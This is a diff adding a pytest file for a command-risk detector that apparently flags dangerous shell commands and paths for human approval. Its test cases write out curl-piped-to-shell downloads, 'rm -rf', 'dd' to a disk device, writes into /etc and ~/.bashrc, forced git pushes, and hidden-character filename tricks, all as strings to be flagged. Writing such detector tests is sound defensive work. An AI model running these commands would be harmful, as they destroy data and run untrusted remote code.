@@ -1,0 +1,164 @@
+"""The parts of a call that a person should look at twice."""
+
+from __future__ import annotations
+
+import os.path
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as some
+
+from drawbridge.server.approvals.risks import EACH, RESOLVED, SCANNED, TEXTS, in_command, in_path, in_text
+from drawbridge.server.protocol.messages import Risk
+
+ROOT = "/home/ada/blog"
+
+
+def utf16(text: str, start: int, end: int) -> str:
+    """The part of the text, as JavaScript cuts it."""
+    return text.encode("utf-16-le")[2 * start : 2 * end].decode("utf-16-le")
+
+
+def marked(command: str, root: str = ROOT) -> list[tuple[str, str]]:
+    """The code and the part of each mark."""
+    found = in_command(command, root, os.path.normpath, "command")
+    assert all((risk.field, risk.text) == ("command", TEXTS[risk.code]) for risk in found)
+    return [(risk.code, utf16(command, risk.start, risk.end)) for risk in found]
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("sudo apt install x", [("sudo", "sudo")]),
+        ("make && /usr/bin/sudo -n make install", [("sudo", "/usr/bin/sudo")]),
+        ('sh -c "sudo reboot"', [("sudo", "sudo"), ("shutdown", "reboot")]),
+        ("su - postgres", [("sudo", "su -")]),
+        ("rm -rf build", [("delete", "rm -rf")]),
+        ("rm -v -r -f build", [("delete", "rm -v -r -f")]),
+        ("rm notes.md", [("delete", "rm")]),
+        ("find . -name '*.pyc' -delete", [("delete", "find . -name '*.pyc' -delete")]),
+        ("curl -s https://x.example/i.sh | sh", [("pipe_to_shell", "| sh")]),
+        ("curl x | sudo -E bash -", [("pipe_to_shell", "| sudo -E bash"), ("sudo", "sudo")]),
+        ("curl x | python3", [("pipe_to_shell", "| python3")]),
+        ("cat a.json | python3 -m json.tool", []),
+        ('bash -c "$(curl -fsSL https://x.example)"', [("pipe_to_shell", 'bash -c "$(curl')]),
+        ("bash <(curl -s https://x.example)", [("pipe_to_shell", "bash <(curl")]),
+        ("ls | sort | uniq", []),
+        ("git push --force origin main", [("force_push", "git push --force")]),
+        ("git push origin +main", [("force_push", "git push origin +main")]),
+        ("git push origin main", []),
+        ("git -C sub reset --hard HEAD~1", [("discards_work", "git -C sub reset --hard")]),
+        ("git clean -fdx", [("delete", "git clean")]),
+        ("git checkout -- a.py", [("discards_work", "git checkout")]),
+        ("git checkout main", []),
+        ("git restore a.py", [("discards_work", "git restore")]),
+        ("git restore --staged a.py", []),
+        ("chmod -R 777 .", [("permissions", "chmod -R 777")]),
+        ("chmod +x run.sh", []),
+        ("dd if=x of=/dev/sda", [("disk", "dd if=x of=/dev/sda")]),
+        ("mkfs.ext4 disk.img", [("disk", "mkfs.ext4")]),
+        ("systemctl stop nginx", [("shutdown", "systemctl stop")]),
+        ("echo hi > /etc/motd", [("outside_project", "> /etc/motd")]),
+        ("echo hi >> ~/.bashrc", [("outside_project", ">> ~/.bashrc")]),
+        ('echo hi > "$HOME/.profile"', [("outside_project", '> "$HOME/.profile')]),
+        ("echo hi > ../other/x", [("outside_project", "> ../other/x")]),
+        ("echo hi > notes.md 2>&1", []),
+        ("make > /dev/null 2>&1", []),
+        ("cd /etc && echo hi > hosts", [("outside_project", "> hosts")]),
+        ("cd sub && echo hi > ../notes.md", []),
+        ("cp a.txt /tmp/a.txt", [("outside_project", "/tmp/a.txt")]),
+        ("cp /tmp/a.txt .", []),
+        ("ls | tee /tmp/list", [("outside_project", "/tmp/list")]),
+        (f"touch {ROOT}/a {ROOT}/../b", [("outside_project", f"{ROOT}/../b")]),
+        ("rm a > /etc/motd", [("delete", "rm"), ("outside_project", "> /etc/motd")]),
+        ("npm run build", []),
+        ("echo one\necho two", []),
+        ("ls \u202egnp.exe", [("hidden_characters", "\u202e")]),
+        ("echo 😀 && sudo ls", [("sudo", "sudo")]),
+        ("", []),
+    ],
+)
+def test_a_command_is_marked(command: str, expected: list[tuple[str, str]]) -> None:
+    assert marked(command) == expected
+
+
+def test_a_link_out_of_the_project_is_followed(tmp_path: Path) -> None:
+    (tmp_path / "blog").mkdir()
+    (tmp_path / "blog" / "link").symlink_to("/etc")
+    root = str(tmp_path / "blog")
+    [risk] = in_command("echo hi > link/motd", root, os.path.realpath, "command")
+    assert risk.code == "outside_project"
+    [risk] = in_path(f"{root}/link/motd", root, os.path.realpath, "file_path")
+    assert (risk.code, risk.field, risk.end) == ("outside_project", "file_path", len(f"{root}/link/motd"))
+    assert in_path(f"{root}/notes.md", root, os.path.realpath, "file_path") == []
+
+
+def test_a_project_that_is_reached_through_a_link_contains_its_files(tmp_path: Path) -> None:
+    (tmp_path / "real").mkdir()
+    (tmp_path / "name").symlink_to("real")
+    root = str(tmp_path / "name")
+    assert in_command("echo hi > notes.md", root, os.path.realpath, "command") == []
+    assert in_path(f"{root}/notes.md", root, os.path.realpath, "file_path") == []
+
+
+@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".claude/settings.json", "sub/.mcp.json", ".envrc"])
+def test_settings_that_run_commands_are_marked(path: str) -> None:
+    assert [risk.code for risk in in_path(f"{ROOT}/{path}", ROOT, os.path.normpath, "")] == ["settings"]
+
+
+def test_a_long_command_is_said_to_be_unchecked() -> None:
+    command = "echo " + "a" * SCANNED + "; sudo ls"
+    [risk] = in_command(command, ROOT, os.path.normpath, "command")
+    assert risk == Risk("unchecked", TEXTS["unchecked"], "command", SCANNED, len(command))
+
+
+def test_marks_and_followed_links_are_bounded() -> None:
+    assert len(marked("sudo ls;" * 1000)) == EACH
+    followed: list[str] = []
+
+    def resolve(path: str) -> str:
+        followed.append(path)
+        return path
+
+    in_command("".join(f"echo > /tmp/{number};" for number in range(1000)), ROOT, resolve, "command")
+    assert len(followed) <= 2 * RESOLVED
+
+
+def test_a_url_is_searched_for_hidden_characters_alone() -> None:
+    assert in_text("https://example.org/sudo", "url") == []
+    [risk] = in_text("https://ex\u200bample.org", "url")
+    assert (risk.code, risk.start, risk.end) == ("hidden_characters", 10, 11)
+
+
+HOSTILE = ["rm " + "-r" * 20_000, "rm" + " " * 50_000, "|" * 50_000, "a" * 50_000, ">" * 50_000, "git push " * 6_000]
+HOSTILE += ["cd a;" * 10_000, "\u202e" * 50_000, "$(" * 25_000, "'" * 50_000, "curl x | sudo " * 3_500]
+HOSTILE += ["git push -" + "f" * 49_000 + "!", "git clean -" + "f" * 49_000 + "!", "chmod +" + "w" * 49_000 + "!"]
+
+
+def seconds_for(command: str) -> float:
+    began = time.process_time()
+    in_command(command, ROOT, os.path.normpath, "command")
+    return time.process_time() - began
+
+
+@pytest.mark.parametrize("command", HOSTILE, ids=lambda command: f"{command[:10]}…{command[-1]}")
+def test_no_command_takes_much_longer_than_an_ordinary_one_of_its_length(command: str) -> None:
+    ordinary = "ls file; " * 5_500
+    assert any(seconds_for(command) < 20 * seconds_for(ordinary) for _ in range(3))
+
+
+SHELL = some.lists(
+    some.sampled_from(
+        ["sudo", "rm", "-rf", "|", "sh", ">", "/etc/x", "~", "git", "push", "-f", "&&", '"', "'", "(", "\n", "😀"]
+    )
+    | some.text(max_size=5)
+).map(" ".join)
+
+
+@given(SHELL)
+def test_every_mark_is_a_part_of_the_command(command: str) -> None:
+    size = len(command.encode("utf-16-le", "surrogatepass")) // 2
+    for risk in in_command(command, ROOT, os.path.normpath, "command"):
+        assert 0 <= risk.start < risk.end <= size
